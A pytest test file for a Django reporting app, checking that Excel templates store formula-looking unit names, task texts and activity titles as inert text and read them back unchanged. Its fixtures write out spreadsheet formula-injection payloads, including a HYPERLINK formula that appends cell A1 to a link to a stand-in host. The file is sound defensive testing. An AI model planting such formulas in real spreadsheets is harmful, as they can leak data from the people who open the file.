"""Text typed by units comes back out of the Excel templates as text, never as a formula."""

import io
import re

import openpyxl
import pytest
from django.urls import reverse

from lantoa.organization.models import Unit
from lantoa.reporting.excel.layout import LISTS_SHEET, SHEET
from lantoa.reporting.excel.template import board_workbook, unit_template
from lantoa.reporting.models import Activity
from lantoa.reporting.services import ActivityInput, activity_record
from tests.conftest import client_for
from tests.core.cells_support import HOSTILE_TEXTS, inert_xlsx_cells, typed_texts
from tests.reporting.excel_support import JUNE, column, edit, run_import

pytestmark = pytest.mark.django_db

UNIT_NAME = '=HYPERLINK("http://x/"&A1,"Đảng ủy")'
TASK_TEXT = '=HYPERLINK("http://x/","nhiệm vụ")'


@pytest.fixture
def hostile(kl51_campaign):
    """Unit 03127 named like a formula, one of its tasks too, and activities titled like them."""
    unit = Unit.objects.get(code="03127")
    Unit.objects.filter(pk=unit.pk).update(name=UNIT_NAME)
    unit.refresh_from_db()
    task = kl51_campaign.tasks.filter(assignments__unit=unit).order_by("position").first()
    type(task).objects.filter(pk=task.pk).update(ref="", text=TASK_TEXT)
    for title in HOSTILE_TEXTS:
        activity_record(
            campaign=kl51_campaign,
            unit=unit,
            data=ActivityInput(
                channel="conference",
                date=JUNE,
                title=title,
                task_id=task.pk,
                figures={"sessions": 1, "party_members_present": 10},
                notes=title,
            ),
            user=None,
        )
    return unit


def _templates(campaign, unit) -> dict[str, bytes]:
    return {
        "unit": unit_template(campaign=campaign, unit=unit),
        "board": board_workbook(campaign=campaign),
    }


def test_it_writes_no_formula_anywhere_in_either_template(kl51_campaign, hostile):
    for kind, data in _templates(kl51_campaign, hostile).items():
        cells = inert_xlsx_cells(data)
        # The hostile texts are all there, exactly as stored, flagged as typed text.
        expected = {title.strip() for title in HOSTILE_TEXTS} | {TASK_TEXT}
        assert set(typed_texts(cells, list(expected))) == expected, kind
        assert typed_texts(cells, [UNIT_NAME]), kind


def test_it_keeps_titles_as_typed_text_in_the_activities_sheet(kl51_campaign, hostile):
    for kind, data in _templates(kl51_campaign, hostile).items():
        sheet = openpyxl.load_workbook(io.BytesIO(data))[SHEET]
        titles = [sheet.cell(row, column("title")) for row in range(2, 2 + len(HOSTILE_TEXTS))]
        assert sorted(cell.value for cell in titles) == sorted(t.strip() for t in HOSTILE_TEXTS), (
            kind
        )
        assert all(cell.data_type == "s" for cell in titles), kind
        task = sheet.cell(2, column("task"))
        assert (task.value, task.data_type) == (TASK_TEXT, "s"), kind


def test_it_points_drop_down_lists_only_at_text_cells_of_the_lists_sheet(kl51_campaign, hostile):
    safe = re.compile(rf"^'{LISTS_SHEET}'!\$[A-C]\$2:\$[A-C]\$\d+$|^\d+$|^\"x\"$")
    for kind, data in _templates(kl51_campaign, hostile).items():
        book = openpyxl.load_workbook(io.BytesIO(data))
        for validation in book[SHEET].data_validations.dataValidation:
            for formula in (validation.formula1, validation.formula2):
                assert formula is None or safe.match(formula), (kind, formula)
        listed = [cell for row in book[LISTS_SHEET].iter_rows(min_row=2) for cell in row]
        assert all(cell.data_type == "s" for cell in listed if cell.value is not None)
        assert TASK_TEXT in [cell.value for cell in listed], kind


def test_it_reads_the_hostile_texts_back_unchanged(
    kl51_campaign, hostile, commune_reporter, board_user
):
    for user, data in (
        (commune_reporter, unit_template(campaign=kl51_campaign, unit=hostile)),
        (board_user, board_workbook(campaign=kl51_campaign)),
    ):
        upload = run_import(kl51_campaign, user, data, apply=False)
        assert upload.status == "preview", upload.message
        counts = upload.plan["counts"]
        assert (counts["changed"], counts["new"], counts["errors"]) == (0, 0, 0), upload.plan
        assert counts["unchanged"] == len(HOSTILE_TEXTS)


def test_it_changes_only_the_edited_cell_of_a_hostile_row(kl51_campaign, hostile, commune_reporter):
    data = unit_template(campaign=kl51_campaign, unit=hostile)
    upload = run_import(kl51_campaign, commune_reporter, edit(data, {2: {"sessions": 3}}))
    assert upload.status == "applied", upload.message
    titles = set(Activity.objects.values_list("title", flat=True))
    assert titles == {title.strip() for title in HOSTILE_TEXTS}
    assert sorted(Activity.objects.values_list("sessions", flat=True)) == [1] * 7 + [3]


def test_it_downloads_both_templates_from_the_web_without_formulas(
    kl51_campaign, hostile, commune_reporter, board_user
):
    for user, url in (
        (
            commune_reporter,
            reverse("reporting:excel_template", args=[kl51_campaign.pk, hostile.pk]),
        ),
        (board_user, reverse("reporting:excel_board_workbook", args=[kl51_campaign.pk])),
    ):
        response = client_for(user).get(url)
        assert response.status_code == 200
        cells = inert_xlsx_cells(response.content)
        stored = {text.strip() for text in HOSTILE_TEXTS}
        assert set(typed_texts(cells, list(stored))) == stored
